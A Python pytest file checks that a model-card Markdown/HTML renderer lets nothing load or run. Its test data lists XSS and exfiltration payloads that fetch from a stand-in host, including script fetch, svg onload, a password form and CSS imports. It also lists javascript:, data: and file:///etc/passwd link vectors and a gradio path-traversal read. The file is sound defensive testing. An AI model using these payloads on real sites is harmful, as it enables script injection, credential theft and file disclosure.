"""A model card loads nothing and runs nothing, whatever is in it."""

import random
import re
import time
from html.parser import HTMLParser

import pytest
from markdown_it import MarkdownIt

from cifar_models.bundles import bundle
from cifar_models.model_card import render
from cifar_models.specs import MODELS

ALLOWED = {*["a", "blockquote", "br", "code", "em", "hr", "li", "ol", "p", "pre", "strong", "ul"]}
ALLOWED |= {*["h1", "h2", "h3", "h4", "h5", "h6", "table", "tbody", "td", "th", "thead", "tr"]}
ATTRIBUTES = {"href", "target", "rel", "title", "start", "class", "style"}


class Found(HTMLParser):
    def __init__(self, html):
        super().__init__()
        self.tags, self.attributes, self.text = [], [], ""
        self.feed(html)

    def handle_starttag(self, tag, attributes):
        self.tags.append(tag)
        self.attributes += attributes

    def handle_data(self, data):
        self.text += data


def check(card):
    """Whoever shows the card, as HTML or as Markdown once more, asks no server for anything."""
    html = render(card)
    for shown in (html, MarkdownIt("commonmark", {"html": True}).render(html)):
        found = Found(shown)
        assert set(found.tags) <= ALLOWED
        for name, value in found.attributes:
            assert name in ATTRIBUTES
            assert name != "href" or re.match(r"https?://", value, re.IGNORECASE)
            assert name != "style" or re.fullmatch(r"text-align:(left|right|center)", value)
    return Found(html)


EVIL = "http://127.0.0.1:9/a"
TAGS = [
    f'<img src="{EVIL}">',
    f"<IMG/SRC={EVIL}>",
    f'<svg><image href="{EVIL}"/></svg>',
    f'<svg onload="fetch(`{EVIL}`)">',
    f'<form action="{EVIL}"><input name="password"></form>',
    f"<style>@import url({EVIL});</style>",
    f'<link rel="stylesheet" href="{EVIL}">',
    f'<iframe src="{EVIL}"></iframe>',
    f'<object data="{EVIL}"></object>',
    f'<embed src="{EVIL}">',
    f'<base href="{EVIL}">',
    f'<meta http-equiv="refresh" content="0;url={EVIL}">',
    f'<video poster="{EVIL}" src="{EVIL}" autoplay></video>',
    f'<p style="background:url({EVIL})">',
    f'<a href="{EVIL}" ping="{EVIL}" onclick="alert(1)">x</a>',
    f"<script>fetch('{EVIL}')</script>",
    f"<!-- --><script src={EVIL}></script>",
    f"<![CDATA[<script src={EVIL}></script>]]>",
    f"<?php ?><img src={EVIL}>",
    f"<math><mtext><img src={EVIL}></mtext></math>",
    '<details open ontoggle="alert(1)">',
]
PICTURES = [
    f"![x]({EVIL})",
    f"!![x]({EVIL})",
    f"\\\\![x]({EVIL})",
    f"![x][r]\n\n[r]: {EVIL}",
    f"![r]\n\n[r]: {EVIL}",
    f"[![x]({EVIL})](https://huggingface.co)",
    f'![x](<{EVIL}> "title")',
    "![x](data:image/png;base64,AAAA)",
    "![x](//127.0.0.1:9/a)",
    f"![![x]({EVIL})]({EVIL})",
    f"|a|\n|-|\n|![x]({EVIL})|",
    f"- item\n\n  ```\n  code\n\n  ![x]({EVIL})\n  ```",
]
BLOCKS = ["# {}", "> {}", "- {}", "    {}", "```\n{}\n```", "text\n\n{}\n\ntext", "|a|\n|-|\n|{}|"]
WITHIN = ["{}", "\\{}", "\\\\{}", "`{}`", "**{}**", "[{}](http://a.b)", "&lt;{}", "<{}"]
AROUND = BLOCKS + WITHIN


@pytest.mark.parametrize("part", TAGS + PICTURES)
def test_no_tag_and_no_picture_gets_through(part):
    for around in AROUND:
        check(f"---\nlicense: other\n---\n# Card\n\n{around.format(part)}\n")


ADDRESSES = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java&#10;script:alert(1)",
    "&#106;avascript:alert(1)",
    "vbscript:x",
    "data:text/html,<script>alert(1)</script>",
    "file:///etc/passwd",
    "/gradio_api/file=/etc/passwd",
    "//127.0.0.1:9/a",
    "\\x01javascript:alert(1)",
    "blob:http://a.b/c",
    "http:",
    "http://[",
]


@pytest.mark.parametrize("address", ADDRESSES)
@pytest.mark.parametrize("link", ["[x]({})", "[x](<{}>)", "<{}>", "[x]\n\n[x]: {}", "![x]({})"])
def test_links_lead_to_the_web_only(address, link):
    check(link.format(address))


def test_links_stay_and_pictures_become_links():
    found = check(f"[paper](https://arxiv.org/abs/1 'title') and ![a *plot*]({EVIL}.png)")
    assert found.text == "paper and a plot\n"
    addresses = [value for name, value in found.attributes if name == "href"]
    assert addresses == ["https://arxiv.org/abs/1", f"{EVIL}.png"]
    assert {value for name, value in found.attributes if name == "rel"} == {
        "noopener noreferrer nofollow"
    }


@pytest.mark.parametrize("spec", MODELS, ids=lambda spec: spec.id)
def test_our_own_cards_keep_their_headings_tables_and_lists(spec):
    card = bundle.read(bundle.BUNDLES / spec.id, spec).card
    found = check(card)
    assert "library_name" not in found.text
    assert found.tags.count("table") == len(re.findall(r"^\|[-| ]+$", card, re.MULTILINE)) > 1
    assert found.tags.count("h2") == card.count("\n## ")
    assert found.tags.count("li") == card.count("\n- ") - card.split("\n---\n")[0].count("\n- ")


def test_a_card_without_a_head_keeps_what_is_above_a_rule():
    assert "above" in check("above\n\n---\n\nbelow").text


def test_any_mixture_of_marks_leads_to_nothing_that_loads():
    chosen = random.Random(0)
    marks = [*"![]()<>\"'`*_|\\&#\n-:= x", EVIL, "<img src=", "javascript:", "](", "\n\n", "    "]
    for _ in range(1000):
        check("".join(chosen.choices(marks, k=40)))


@pytest.mark.parametrize("mark", ["[", "![", "](", "> ", "*a ", "`", "- ", "|a\n", "<!-- ", "[a]("])
def test_the_longest_card_is_rendered_in_time(mark):
    card = (mark * bundle.CARD_BYTES)[: bundle.CARD_BYTES]
    began = time.process_time()
    render(card)
    assert time.process_time() - began < 10
